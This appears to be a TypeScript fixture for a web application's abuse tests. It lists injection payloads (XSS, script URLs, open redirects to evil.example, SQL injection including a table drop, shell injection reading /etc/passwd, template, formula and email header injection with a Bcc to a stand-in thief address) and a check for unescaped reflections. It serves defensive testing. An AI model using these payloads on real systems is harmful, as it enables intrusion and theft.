import type { Text } from "#tests/abuse/shot.ts";

/** Stands in every payload, so that an answer is looked at closely only where one came back. */
export const RAW_MARK = "zq7raw";

/** Stands in headers that claim to say where the site is; no answer may take it from there. */
export const BELIEVED_MARK = "zq7believed";

/** SECURITY.md X1 and class 28: what would run in a page that shows it unescaped. */
export const SCRIPTS: readonly string[] = [
  `<script>${RAW_MARK}()</script>`,
  `</script><script>${RAW_MARK}()</script>`,
  `"><script>${RAW_MARK}()</script>`,
  `'><script>${RAW_MARK}()</script>`,
  `</title><script>${RAW_MARK}()</script>`,
  `</textarea><script>${RAW_MARK}()</script>`,
  `</style><script>${RAW_MARK}()</script>`,
  `<img src=x onerror=${RAW_MARK}()>`,
  `"><img src=x onerror=${RAW_MARK}()>`,
  `<img src="x" onerror="${RAW_MARK}()">`,
  `<img/src/onerror=${RAW_MARK}()>`,
  `<IMG """><SCRIPT>${RAW_MARK}()</SCRIPT>">`,
  `<svg onload=${RAW_MARK}()>`,
  `<svg/onload=${RAW_MARK}()>`,
  `<svg><script>${RAW_MARK}()</script></svg>`,
  `<svg><animate onbegin=${RAW_MARK}() attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RAW_MARK}()"><text x=20 y=20>x</text></a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RAW_MARK}()></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RAW_MARK}()>">`,
  `<iframe srcdoc="<script>${RAW_MARK}()</script>">`,
  `<iframe src="javascript:${RAW_MARK}()">`,
  `<body onload=${RAW_MARK}()>`,
  `<details open ontoggle=${RAW_MARK}()>`,
  `<video><source onerror=${RAW_MARK}()></video>`,
  `<audio src=x onerror=${RAW_MARK}()>`,
  `<input autofocus onfocus=${RAW_MARK}()>`,
  `<select autofocus onfocus=${RAW_MARK}()>`,
  `<marquee onstart=${RAW_MARK}()>`,
  `<object data="javascript:${RAW_MARK}()">`,
  `<embed src="javascript:${RAW_MARK}()">`,
  `<a href="javascript:${RAW_MARK}()">x</a>`,
  `<form action="javascript:${RAW_MARK}()"><button>x</button></form>`,
  `<base href="//${RAW_MARK}.example/">`,
  `<link rel=stylesheet href="//${RAW_MARK}.example/">`,
  `<meta http-equiv=refresh content="0;url=//${RAW_MARK}.example/">`,
  `<style>@import "//${RAW_MARK}.example/";</style>`,
  `" onmouseover="${RAW_MARK}()`,
  `' onmouseover='${RAW_MARK}()`,
  `<!--<img src="--><img src=x onerror=${RAW_MARK}()>`,
  `<![CDATA[<script>${RAW_MARK}()</script>]]>`,
];

/** Class 29: an address that is a script. */
export const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${RAW_MARK}()`,
  `JaVaScRiPt:${RAW_MARK}()`,
  `\tjavascript:${RAW_MARK}()`,
  `java\tscript:${RAW_MARK}()`,
  `java\nscript:${RAW_MARK}()`,
  `&#106;avascript:${RAW_MARK}()`,
  `javascript&colon;${RAW_MARK}()`,
  `data:text/html,<script>${RAW_MARK}()</script>`,
  `vbscript:${RAW_MARK}()`,
  `//${RAW_MARK}.example/`,
  `https://clinic.example/\njavascript:${RAW_MARK}()`,
];

const BEGINNINGS = [...SCRIPTS, ...SCRIPT_ADDRESSES]
  .map((payload) => payload.slice(0, payload.indexOf(RAW_MARK)))
  .filter((beginning) => /[<"']/.test(beginning));

/** The payload that stands in a page as it was sent, or null: what was escaped does not. Also a script as an address of the page. */
export function reflectedRaw(page: string): string | null {
  for (let at = page.indexOf(RAW_MARK); at !== -1; at = page.indexOf(RAW_MARK, at + 1)) {
    const before = page.slice(Math.max(0, at - 120), at);
    const raw = BEGINNINGS.find((beginning) => before.endsWith(beginning) && beginning.trim() !== '"' && beginning.trim() !== "'");
    if (raw !== undefined) return raw;
    if (/(?:href|src|action|formaction|data)="\s*(?:java\s*script|vbscript|data):[^"]*$/i.test(before)) return before.slice(-60);
  }
  return null;
}

/** Class 35: where a sign-in must not lead. */
export const FOREIGN_ADDRESSES: readonly string[] = [
  "//evil.example",
  "///evil.example",
  "////evil.example/%2f..",
  "/\\evil.example",
  "\\/evil.example",
  "\\\\evil.example",
  "/%09/evil.example",
  "/\t/evil.example",
  "/\n/evil.example",
  "/%5cevil.example",
  "/%2f%2fevil.example",
  "/.//evil.example",
  "/..//evil.example",
  "https:evil.example",
  "https:/evil.example",
  "https://evil.example",
  "http://127.0.0.1@evil.example",
  "http://127.0.0.1:80:80@evil.example/",
  "//127.0.0.1@evil.example",
  "/#@evil.example",
  "/@evil.example/..//evil.example",
  "javascript:zq7raw()",
  "data:text/html,zq7raw",
  "/／evil.example",
  "〱evil.example",
  "/\u2028/evil.example",
  "%00//evil.example",
  " //evil.example",
];

/** Class 22. */
export const NUMBERS: readonly string[] = [
  "-1",
  "-0",
  "0",
  "1.5",
  "2147483647",
  "2147483648",
  "9007199254740993",
  "99999999999999999999",
  "1e309",
  "-1e309",
  "1e-400",
  "NaN",
  "Infinity",
  "-Infinity",
  "0x10",
  "0b1",
  "1_000",
  "1,000",
  "１２３",
  "٣",
  " 5",
  "5 ",
  "+5",
  "--5",
  "5;",
  "null",
  "undefined",
  "true",
  "[]",
  "{}",
  "",
];

/** Class 23. */
export const DATES: readonly string[] = [
  "2026-02-30",
  "2026-13-01",
  "2026-00-10",
  "2026-01-00",
  "0000-01-01",
  "-001-01-01",
  "9999-12-31",
  "10000-01-01",
  "+012026-01-01",
  "1970-01-01",
  "1969-12-31",
  "2038-01-19",
  "2024-02-29",
  "2023-02-29",
  "2100-12-31",
  "2026-03-29T01:30",
  "2026-11-23T25:00",
  "2026-11-23T12:00:00Z",
  "23/11/2026",
  "20261123",
  "2026-11-2３",
  "２０２６-11-23",
  "yesterday",
  "2026-11-23; drop",
  "1e9",
  "",
];

/** Classes 24 and 25: meta characters of SQL and of full-text search. */
export const SQL: readonly string[] = [
  "'",
  '"',
  "''",
  "';--",
  "' or 1=1 --",
  '" or ""="',
  "'; drop table accounts; --",
  "' union select email from accounts --",
  "1; select sqlite_version()",
  "%",
  "_",
  "%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%",
  "\\",
  "/*",
  "*/",
  "--",
  "';attach database '/tmp/x' as y;--",
  "' and (select 1 from (select sleep(5)))",
  "x'00'",
  "?1",
  ":a",
  "@a",
  "$a",
  "` or 1",
];
export const SEARCHES: readonly string[] = [
  "NEAR(a b",
  "NEAR(a b, 999999999)",
  "*",
  "**",
  "a*",
  "^a",
  "col:a",
  "city:leeds",
  "- a",
  "NOT",
  "AND",
  "OR",
  "a AND",
  "(a",
  "a)",
  '"',
  '"a',
  'a"b"c"',
  "{a b}:c",
  "a + b",
  "+",
  "a NOT b",
  "''",
  "a -b",
  "*".repeat(90),
  "a* OR ".repeat(14),
  "(".repeat(90),
  '"'.repeat(90),
  "NEAR(".repeat(18),
];

/** Classes 26 and 27: what a template or a shell would run. */
export const TEMPLATES: readonly string[] = [
  "{{7*7}}",
  `\${7*7}`,
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('return 1')()}}",
  `\${{7*7}}`,
  `[[\${7*7}]]`,
  "*{7*7}",
  "{%for a in b%}",
  "@(7*7)",
];
export const SHELL: readonly string[] = [
  "; id",
  "| id",
  "& id",
  "&& id",
  "`id`",
  "$(id)",
  "$IFS",
  "> /tmp/zq7",
  "< /etc/passwd",
  "\nid\n",
  "a\0b",
  "-rf /",
  "--help",
  "../../etc/passwd",
  "%2e%2e%2fetc/passwd",
];

/** Class 30. */
export const FORMULAS: readonly string[] = [
  "=1+1",
  '=HYPERLINK("https://evil.example")',
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "=cmd|' /C calc'!A0",
  ";=1",
  ",=1",
  "＝1+1",
  "\0=1",
];

/** Classes 20 and 31: line breaks that would end a header. */
export const HEADER_BREAKS: readonly string[] = [
  `a\r\nx-${RAW_MARK}: 1`,
  `a\nx-${RAW_MARK}: 1`,
  `a\rx-${RAW_MARK}: 1`,
  `a\r\n\r\n<script>${RAW_MARK}()</script>`,
  `a\r\nBcc: thief@evil.example`,
  "a@b.example\r\nBcc: thief@evil.example",
  "a@b.example,thief@evil.example",
  "a@b.example;thief@evil.example",
  "a@b.example%0d%0aBcc:thief@evil.example",
  '"a\r\nSubject: x"@b.example',
  "<a@b.example>",
  "a@b.example\u2028Bcc: x",
  "a\u0085Bcc: x",
  "嘊嘍x: 1",
];

/** Has an account in the world, of which classes 15 and 17 are spellings. */
export const TWIN_EMAIL = "client@twins.example";

/** Classes 10 to 21: text that two readers may read in two ways. */
export const STRANGE_TEXT: Record<
  "nul" | "badUtf8" | "bom" | "bidi" | "zalgo" | "homoglyph" | "normal" | "caseTwin" | "folding" | "separator" | "breaks" | "emoji",
  readonly Text[]
> = {
  nul: ["\0", "a\0b", "\0\0\0", "a@b.example\0.evil.example", { encoded: "%00" }, { encoded: "a%00b" }],
  badUtf8: [
    { encoded: "%ff" },
    { encoded: "%fe%ff" },
    { encoded: "%c0%af" },
    { encoded: "%e0%80%af" },
    { encoded: "%ed%a0%80" },
    { encoded: "%f4%90%80%80" },
    { encoded: "a%80b" },
    { encoded: "%f0%9f" },
    { encoded: "%ed%b0%80%ed%a0%80" },
    "\ud800",
    "a\udc00",
  ],
  bom: ["\ufeff", "\ufeffa", "a\ufeffb", { encoded: "%ff%fea%00" }, { encoded: "%ef%bb%bf" }],
  bidi: ["\u202etxet", "a\u2066b\u2069", "\u202a\u202a\u202a", "\u061c", "\u200fa", { of: "\u202e", times: 500 }],
  zalgo: [
    { of: "\u0301", times: 1_000 },
    { of: "a\u0489", times: 500 },
    { of: "\u200b", times: 1_000 },
    { of: "\u200d", times: 300 },
    "a\u200bb",
    "\u034f".repeat(40),
    { of: "\u0300\u0316", times: 500 },
  ],
  homoglyph: [
    "сlient@twins.example",
    "client@ｔwins.example",
    "cliеnt@example.org",
    "оwner",
    "раypal",
    "аdmin",
    "ｃlient@example.org",
    "client@exаmple.org",
    "xn--client-9za@example.org",
  ],
  normal: ["é", "e\u0301", "Å", "A\u030a", "\u212b", "ﬁ", "ⅷ", "Ω", "\u2126", "가", "\u1100\u1161"],
  caseTwin: [
    "CLIENT@TWINS.EXAMPLE",
    "Client@twins.example",
    "client+a@twins.example",
    "cli.ent@twins.example",
    "client@twins.example.",
    " client@twins.example",
    "client @twins.example",
    "client@twins.example ",
    '"client"@twins.example',
    "client@[127.0.0.1]",
  ],
  folding: ["İ", "ı", "I", "ß", "ẞ", "SS", "ſ", "K", "admİn", "MODERATOR", "ŉ", "ΐ", "ﬀ"],
  separator: ["a\u2028b", "a\u2029b", "\u2028", "\u0085", "a\u000bb", "a\u000cb", { of: "\u2028", times: 300 }],
  breaks: ["a\r\nb", "\r", "\n", "\r\n\r\n", "a\n\rb", { of: "\r\n", times: 400 }, "a%0d%0ab"],
  emoji: ["👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👨🏽‍⚕️", { of: "👩‍👩‍👧‍👦", times: 60 }, "🇬🇧🇬🇧🇬", "\u{1f3fb}", "☺️", "\ufe0f"],
};

/** Class 32 and 54. */
export const NESTED: readonly Text[] = [
  { of: "[", times: 3_000 },
  { of: '{"a":', times: 1_500 },
  `${"[".repeat(2_000)}${"]".repeat(2_000)}`,
  '{"$ne":null}',
  '{"__proto__":{"role":"admin"}}',
  "[object Object]",
  '["SingleFetchRedirect",1]',
  '[{"_1":2},"a"]',
];
export const REGEX_BOMBS: readonly Text[] = [
  { of: "a", times: 3_000 },
  `${"a".repeat(2_000)}!`,
  { of: "a@", times: 800 },
  { of: "a.", times: 800 },
  `${" ".repeat(3_000)}x`,
  { of: "0-", times: 700 },
  `https://${"a.".repeat(800)}`,
  `${"\t".repeat(2_500)}\n`,
  { of: "(a+)+", times: 400 },
  { of: "1.", times: 900 },
];
